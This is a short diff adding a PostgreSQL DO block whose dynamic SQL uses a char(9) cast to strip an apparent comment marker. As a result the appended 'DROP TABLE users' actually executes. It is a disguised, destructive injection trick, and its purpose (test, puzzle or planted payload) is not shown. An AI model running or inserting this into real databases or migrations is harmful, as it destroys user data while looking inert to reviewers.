@@ -1,0 +1,7 @@
+DO $$
+DECLARE
+  part record;
+BEGIN
+  EXECUTE 'SELECT 1 --'::char(9) || '; DROP TABLE users';
+END
+$$;
